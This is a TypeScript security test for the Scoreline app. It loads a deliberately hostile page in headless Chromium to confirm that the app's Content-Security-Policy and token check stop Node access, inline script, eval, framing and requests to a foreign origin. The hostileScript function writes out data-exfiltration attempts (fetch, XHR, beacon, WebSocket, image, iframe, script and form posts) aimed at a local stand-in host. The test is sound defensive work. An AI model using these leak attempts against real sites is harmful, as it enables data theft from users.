/**
 * A hostile page served exactly the way the renderer is served in browser mode — by the bridge's
 * static server, with the app's Content-Security-Policy header — and loaded in Debian's Chromium
 * (playwright-core). It tries what a page injected into Scoreline would try, and gets none of it:
 *   - Node and Electron: no `require`, `process`, `module`, `Buffer`, no `ipcRenderer` anywhere on
 *     `window` (and `window.scoreline`, when present, is the typed contract only — see preload.test.ts);
 *   - its own inline script and `eval` do not run (script-src 'self', no 'unsafe-inline'/'unsafe-eval');
 *   - nothing reaches a foreign origin: fetch/XHR/beacon/WebSocket, images, fonts, styles, iframes,
 *     form posts (connect/img/font/style/frame via default-src 'self', form-action 'none') — a
 *     loopback "foreign site" counts every request it receives and must see none;
 *   - no new window opens (the hostile script does not call `window.open`: in a browser tab whether a
 *     script-driven popup opens is the browser's popup blocker's decision, which is not ours and not
 *     deterministic under load; in the desktop app windowOpenAction() denies every new window —
 *     test/security/windowPolicy.test.ts);
 *   - a foreign page cannot frame Scoreline (frame-ancestors 'none');
 *   - same-origin calls to the API without the per-start token are refused (the page cannot change a setting).
 * Script-driven top-level navigation cannot be stopped by a CSP in a browser tab; in the desktop
 * app will-navigate / will-redirect go through allowNavigation() (windowPolicy.test.ts).
 */
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { chromium, type Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startBridge, type BridgeServer } from '../../main/bridge/server'
import { createScoreline, type Scoreline } from '../../main/core/scoreline'
import { CONTENT_SECURITY_POLICY } from '../../shared/security'
import { servicesRequired } from '../support/services'

const CHROMIUM = process.env.SCORELINE_CHROMIUM ?? '/usr/bin/chromium'
const CHROMIUM_ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
]
const haveChromium = existsSync(CHROMIUM)
if (!haveChromium) {
  const reason = `Chromium not found at ${CHROMIUM} (apt-get install chromium)`
  if (servicesRequired()) throw new Error(reason)
  console.warn(`[skipped] hostile page suite: ${reason}`)
}

/** The hostile page's script: records what it could reach in window.__hostile, then tries to leak. */
function hostileScript(foreign: string): string {
  return `
window.__violations = []
document.addEventListener('securitypolicyviolation', (e) => {
  window.__violations.push(e.effectiveDirective + ' ' + e.blockedURI)
})
const r = {}
r.require = typeof require
r.process = typeof process
r.module = typeof module
r.Buffer = typeof Buffer
r.global = typeof global
r.electron = typeof window.electron
r.ipcRenderer = Object.getOwnPropertyNames(window).filter((k) => /ipc|electron/i.test(k))
r.scoreline = window.scoreline === undefined ? 'absent' : Object.keys(window.scoreline)
try { eval('1 + 1'); r.eval = 'ran' } catch (e) { r.eval = 'blocked' }
try { new Function('return 1')(); r.newFunction = 'ran' } catch (e) { r.newFunction = 'blocked' }
const attempts = []
attempts.push(fetch('${foreign}/fetch', { method: 'POST', body: 'leak', mode: 'no-cors' }).then(() => 'sent', () => 'blocked'))
attempts.push(new Promise((resolve) => {
  try { const x = new XMLHttpRequest(); x.open('GET', '${foreign}/xhr'); x.onload = () => resolve('sent'); x.onerror = () => resolve('blocked'); x.send() } catch (e) { resolve('blocked') }
}))
try { r.beacon = navigator.sendBeacon('${foreign}/beacon', 'leak') ? 'queued' : 'refused' } catch (e) { r.beacon = 'blocked' }
try { new WebSocket('${foreign.replace('http', 'ws')}/ws') } catch (e) {}
const img = new Image(); img.src = '${foreign}/img.png'; document.body.appendChild(img)
const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = '${foreign}/style.css'; document.head.appendChild(link)
const font = new FontFace('x', 'url(${foreign}/font.woff2)'); font.load().catch(() => {})
const frame = document.createElement('iframe'); frame.src = '${foreign}/frame'; document.body.appendChild(frame)
const script = document.createElement('script'); script.src = '${foreign}/evil.js'; document.head.appendChild(script)
const form = document.createElement('form'); form.action = '${foreign}/form'; form.method = 'POST'
const input = document.createElement('input'); input.name = 'leak'; input.value = 'x'; form.appendChild(input)
document.body.appendChild(form)
try { form.submit() } catch (e) {}
attempts.push(fetch('/api/settings.set', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ key: 'theme', value: 'dark' }) }).then((res) => res.status, () => 'failed'))
Promise.all(attempts).then((results) => {
  r.fetch = results[0]; r.xhr = results[1]; r.apiWithoutToken = results[2]
  r.inlineRan = window.__inlineRan === true
  window.__hostile = r
})
`
}

describe.skipIf(!haveChromium)('a hostile page served like the renderer, in Chromium', () => {
  let home: string
  let rendererDir: string
  let scoreline: Scoreline
  let bridge: BridgeServer
  let browser: Browser
  let foreignServer: http.Server
  let foreign: string
  const foreignHits: string[] = []

  beforeAll(async () => {
    foreignServer = http.createServer((req, res) => {
      foreignHits.push(`${req.method} ${req.url}`)
      if (req.url === '/framer') {
        res.writeHead(200, { 'content-type': 'text/html' })
        res.end(`<!doctype html><iframe id="victim" src="${bridge.url}"></iframe>`)
        return
      }
      res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' })
      res.end('foreign')
    })
    await new Promise<void>((resolve) => foreignServer.listen(0, '127.0.0.1', resolve))
    // another origin (other port) on loopback: the browser treats it as a foreign site
    foreign = `http://localhost:${(foreignServer.address() as AddressInfo).port}`

    home = mkdtempSync(path.join(os.tmpdir(), 'scoreline-hostile-home-'))
    rendererDir = mkdtempSync(path.join(os.tmpdir(), 'scoreline-hostile-renderer-'))
    writeFileSync(
      path.join(rendererDir, 'index.html'),
      `<!doctype html><html><head><meta charset="utf-8"><title>hostile</title></head><body>
<script>window.__inlineRan = true</script>
<img src="x" onerror="window.__inlineRan = true">
<script src="/hostile.js"></script>
</body></html>`,
    )
    writeFileSync(path.join(rendererDir, 'hostile.js'), hostileScript(foreign))
    scoreline = createScoreline({ shell: 'browser-bridge', env: { SCORELINE_HOME: home } })
    scoreline.settings.set('app.theme', 'light')
    bridge = await startBridge({ dispatch: scoreline.dispatch, events: scoreline.events, rendererDir })
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: CHROMIUM_ARGS,
      // playwright turns Chromium's popup blocker off by default; a user's browser has it on
      ignoreDefaultArgs: ['--disable-popup-blocking'],
    })
  }, 120_000)

  afterAll(async () => {
    await browser?.close()
    await bridge?.close()
    await scoreline?.close()
    await new Promise<void>((resolve) => foreignServer?.close(() => resolve()))
    if (home) rmSync(home, { recursive: true, force: true })
    if (rendererDir) rmSync(rendererDir, { recursive: true, force: true })
  })

  it('is served with the app CSP header', async () => {
    const response = await fetch(bridge.url)
    expect(response.headers.get('content-security-policy')).toBe(CONTENT_SECURITY_POLICY)
  })

  it('gets no Node, no Electron, no inline script or eval, and leaks nothing to a foreign origin', async () => {
    const context = await browser.newContext()
    const page = await context.newPage()
    const popups: string[] = []
    context.on('page', (p) => popups.push(p.url()))
    try {
      await page.goto(bridge.url, { waitUntil: 'commit' })
      await page.waitForFunction(
        () => (window as unknown as { __hostile?: unknown }).__hostile !== undefined,
        undefined,
        {
          timeout: 15_000,
        },
      )
      await page.waitForTimeout(1500) // let any request that escaped arrive
      const r = (await page.evaluate(
        () => (window as unknown as { __hostile: Record<string, unknown> }).__hostile,
      )) as Record<string, unknown>
      const violations = (await page.evaluate(
        () => (window as unknown as { __violations: string[] }).__violations,
      )) as string[]

      expect(r.require).toBe('undefined')
      expect(r.process).toBe('undefined')
      expect(r.module).toBe('undefined')
      expect(r.Buffer).toBe('undefined')
      expect(r.global).toBe('undefined')
      expect(r.electron).toBe('undefined')
      expect(r.ipcRenderer).toEqual([])
      expect(r.scoreline).toBe('absent')
      expect(r.inlineRan).toBe(false)
      expect(r.eval).toBe('blocked')
      expect(r.newFunction).toBe('blocked')
      expect(r.fetch).toBe('blocked')
      expect(r.xhr).toBe('blocked')
      expect(popups).toEqual([])
      expect(r.apiWithoutToken).toBe(401)
      expect(scoreline.settings.get('app.theme')).toBe('light')

      // the CSP itself reported the blocked attempts (so the blocks are the policy's doing)
      const directives = new Set(violations.map((v) => v.split(' ')[0]))
      for (const d of ['script-src-elem', 'connect-src', 'img-src', 'frame-src', 'form-action']) {
        expect([...directives], `violations: ${violations.join(' | ')}`).toContain(d)
      }
      expect(foreignHits, 'requests the foreign site received').toEqual([])
      // still on our page: the form post did not navigate away
      expect(new URL(page.url()).origin).toBe(new URL(bridge.url).origin)
    } finally {
      await context.close()
    }
  }, 60_000)

  it('cannot be framed by a foreign page (frame-ancestors none)', async () => {
    const context = await browser.newContext()
    const page = await context.newPage()
    try {
      await page.goto(`${foreign}/framer`, { waitUntil: 'load' })
      await page.waitForTimeout(1000)
      const victim = page.frames().find((f) => f !== page.mainFrame())
      expect(victim).toBeDefined()
      // a blocked frame shows Chromium's error page: none of our page's script ran in it
      const ran = await victim!
        .evaluate(() => (window as unknown as { __hostile?: unknown }).__hostile !== undefined)
        .catch(() => false)
      expect(ran).toBe(false)
      expect(victim!.url()).not.toBe(bridge.url)
    } finally {
      await context.close()
      foreignHits.length = 0
    }
  }, 60_000)
})
